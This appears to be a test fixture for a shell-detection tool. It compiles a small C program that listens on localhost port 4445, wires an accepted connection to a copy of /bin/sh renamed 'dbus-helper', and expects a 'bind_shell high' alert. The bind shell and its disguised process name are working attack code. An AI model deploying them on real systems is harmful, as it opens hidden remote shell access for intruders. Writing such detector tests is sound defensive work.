# about: compiled, waits, and the shell has another name
# expect: bind_shell high
# needs: python3 gcc
caller 4445
cat >a.c <<'END'
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include <sched.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <fcntl.h>
static struct sockaddr_in at(int port){struct sockaddr_in a={AF_INET,htons(port)};a.sin_addr.s_addr=htonl(0x7f000001);return a;}
static int call(int port){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a=at(port);connect(s,(void*)&a,sizeof a);return s;}
int main(){int s=socket(AF_INET,SOCK_STREAM,0),o=1;setsockopt(s,SOL_SOCKET,SO_REUSEADDR,&o,4);struct sockaddr_in a=at(4445);bind(s,(void*)&a,sizeof a);listen(s,1);int c=accept(s,0,0);for(int i=0;i<3;i++)dup2(c,i);execl("./dbus-helper","dbus-helper",NULL);}
END
gcc -w -o a a.c -lpthread
cp /bin/sh dbus-helper; timeout 6 ./a || true
done_typing
